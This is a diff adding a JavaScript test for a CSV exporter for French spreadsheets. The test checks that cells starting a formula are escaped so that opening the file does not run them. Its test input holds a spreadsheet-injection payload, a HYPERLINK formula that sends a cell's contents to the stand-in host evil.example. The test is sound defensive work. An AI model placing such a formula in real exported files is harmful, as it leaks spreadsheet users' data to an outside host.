@@ -7,6 +7,18 @@ describe('CSV for French spreadsheets', () => {
     );
   });
 
+  it('writes a testimonial or title that would start a formula as text, so the coordinator’s spreadsheet never runs it', () => {
+    const csv = toCsv([
+      ['Témoignages', 'Groupe de parole', '2026-01', '=HYPERLINK("https://evil.example/?q="&A1;"Merci")'],
+      ['Par activité', '@SUM(A1:A9)', 'Séances', 3],
+    ]);
+
+    expect(csv).toBe(
+      '\ufeffTémoignages;Groupe de parole;2026-01;"\'=HYPERLINK(""https://evil.example/?q=""&A1;""Merci"")"\r\n' +
+        "Par activité;'@SUM(A1:A9);Séances;3\r\n",
+    );
+  });
+
   it('writes rates as percentages and decimals with a comma, hidden counts as shown, nothing for null', () => {
     expect(csvRate(0.8333)).toBe('83,3');
     expect(csvRate(1)).toBe('100,0');
